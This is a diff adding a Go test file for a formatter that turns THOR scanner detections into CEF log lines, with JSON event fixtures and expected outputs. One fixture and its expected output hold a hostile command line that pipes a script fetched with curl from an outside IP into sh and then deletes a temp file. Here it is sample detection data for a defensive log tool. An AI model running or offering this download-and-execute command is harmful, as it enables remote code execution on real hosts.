@@ -0,0 +1,86 @@
+package cef
+
+import (
+	"testing"
+
+	"github.com/NextronSystems/jsonlog/jsonpointer"
+	"github.com/NextronSystems/jsonlog/thorlog/parser"
+	thorlog "github.com/NextronSystems/jsonlog/thorlog/v3"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// dropperFile is a file on a file share whose path contains characters that CEF and LEEF escape.
+const dropperFile = `{"type":"THOR assessment","meta":{"time":"2024-12-02T14:27:03Z","level":"Alert","module":"Filescan","scan_id":"S-Zt1gA5mQ3h","event_id":"b7e2c914d0a6","hostname":"fs-legal-01"},"message":"Malicious file found","score":85,"subject":{"type":"file","path":"D:\\Shares\\Legal\\Incoming\\contract_v=2.pdf.exe","exists":"yes","extension":".exe","hashes":{"md5":"0e4f1b7a9c2d5e8f3a6b9c1d4e7f0a2b","sha1":"5d8e1f4a7b0c3d6e9f2a5b8c1d4e7f0a3b6c9d2e","sha256":"3c6f9a2d5e8b1c4f7a0d3e6b9c2f5a8d1e4b7c0f3a6d9e2b5c8f1a4d7e0b3c6f"},"size":733184},"reasons":[{"summary":"YARA rule MAL_Double_Extension_Dropper","signature":{"score":85,"kind":"YARA Rule","rule_name":"MAL_Double_Extension_Dropper","id":"a0c3e5f7-2b4d-4e6f-8a1c-3e5f7a9b1d2f"}}],"log_version":"v3.0.0"}`
+
+// downloadCradle is a process with a multi-line command line. It was reported without time and scan ID.
+const downloadCradle = `{"type":"THOR assessment","meta":{"level":"Warning","module":"ProcessCheck","hostname":"web-02"},"message":"Suspicious process found","score":60,"subject":{"type":"process","pid":18734,"name":"bash","command":"bash -c curl -fsSL --max-time=10 http://198.51.100.23/i.sh | sh\nrm -f /tmp/.i","image":{"type":"file","path":"/usr/bin/bash"}},"reasons":[{"summary":"Sigma rule Curl | Shell Download Cradle","signature":{"score":60,"kind":"Sigma Rule","rule_name":"Curl | Shell Download Cradle"}}],"log_version":"v3.0.0"}`
+
+func parseAssessment(t *testing.T, event string) *thorlog.Assessment {
+	t.Helper()
+	parsed, err := parser.ParseEvent([]byte(event))
+	require.NoError(t, err)
+	require.IsType(t, &thorlog.Assessment{}, parsed)
+	return parsed.(*thorlog.Assessment)
+}
+
+func TestFormatter_Format(t *testing.T) {
+	tests := []struct {
+		name       string
+		formatter  Formatter
+		assessment *thorlog.Assessment
+		want       string
+	}{
+		{
+			name:       "file",
+			formatter:  Formatter{ProductVersion: "11.0.0"},
+			assessment: parseAssessment(t, dropperFile),
+			want:       "CEF:0|Nextron|THOR|11.0.0|a0c3e5f7-2b4d-4e6f-8a1c-3e5f7a9b1d2f|Malicious file found|8|rt=1733149623000 dvchost=fs-legal-01 cat=Filescan externalId=b7e2c914d0a6 cs1Label=ScanID cs1=S-Zt1gA5mQ3h cn1Label=Score cn1=85 filePath=D:\\\\Shares\\\\Legal\\\\Incoming\\\\contract_v\\=2.pdf.exe fname=contract_v\\=2.pdf.exe fsize=733184 fileHash=3c6f9a2d5e8b1c4f7a0d3e6b9c2f5a8d1e4b7c0f3a6d9e2b5c8f1a4d7e0b3c6f cs2Label=MD5 cs2=0e4f1b7a9c2d5e8f3a6b9c1d4e7f0a2b cs3Label=SHA1 cs3=5d8e1f4a7b0c3d6e9f2a5b8c1d4e7f0a3b6c9d2e",
+		},
+		{
+			name:       "process",
+			assessment: parseAssessment(t, downloadCradle),
+			want:       "CEF:0|Nextron|THOR||Curl \\| Shell Download Cradle|Suspicious process found|6|dvchost=web-02 cat=ProcessCheck cn1Label=Score cn1=60 filePath=/usr/bin/bash fname=bash dpid=18734 dproc=bash cs4Label=CommandLine cs4=bash -c curl -fsSL --max-time\\=10 http://198.51.100.23/i.sh | sh\\nrm -f /tmp/.i",
+		},
+		{
+			name:       "process without pid",
+			assessment: thorlog.NewAssessment(thorlog.NewProcess(0), "Info"),
+			want:       "CEF:0|Nextron|THOR|||Info|0|cn1Label=Score cn1=0",
+		},
+		{
+			name:       "no reasons",
+			assessment: thorlog.NewAssessment(thorlog.NewFile("/tmp/file"), "Info"),
+			want:       "CEF:0|Nextron|THOR|||Info|0|cn1Label=Score cn1=0 filePath=/tmp/file fname=file",
+		},
+		{
+			name: "mappings",
+			formatter: Formatter{Mappings: []FieldMapping{
+				{Key: "cs5", Pointer: jsonpointer.New("subject", "size")},
+				{Key: "reason", Pointer: jsonpointer.New("reasons", "0", "summary")},
+				{Key: "missing", Pointer: jsonpointer.New("subject", "nonexistent")},
+				{Key: "nil", Pointer: jsonpointer.New("subject", "pe_info")},
+			}},
+			assessment: parseAssessment(t, dropperFile),
+			want:       "CEF:0|Nextron|THOR||a0c3e5f7-2b4d-4e6f-8a1c-3e5f7a9b1d2f|Malicious file found|8|rt=1733149623000 dvchost=fs-legal-01 cat=Filescan externalId=b7e2c914d0a6 cs1Label=ScanID cs1=S-Zt1gA5mQ3h cn1Label=Score cn1=85 filePath=D:\\\\Shares\\\\Legal\\\\Incoming\\\\contract_v\\=2.pdf.exe fname=contract_v\\=2.pdf.exe fsize=733184 fileHash=3c6f9a2d5e8b1c4f7a0d3e6b9c2f5a8d1e4b7c0f3a6d9e2b5c8f1a4d7e0b3c6f cs2Label=MD5 cs2=0e4f1b7a9c2d5e8f3a6b9c1d4e7f0a2b cs3Label=SHA1 cs3=5d8e1f4a7b0c3d6e9f2a5b8c1d4e7f0a3b6c9d2e cs5=733184 reason=YARA rule MAL_Double_Extension_Dropper",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			assert.Equal(t, tt.want, tt.formatter.Format(tt.assessment))
+		})
+	}
+}
+
+func TestSeverity(t *testing.T) {
+	for score, severity := range map[int64]int{
+		-20: 0,
+		0:   0,
+		39:  3,
+		60:  6,
+		85:  8,
+		100: 10,
+		250: 10,
+	} {
+		assert.Equal(t, severity, Severity(score), score)
+	}
+}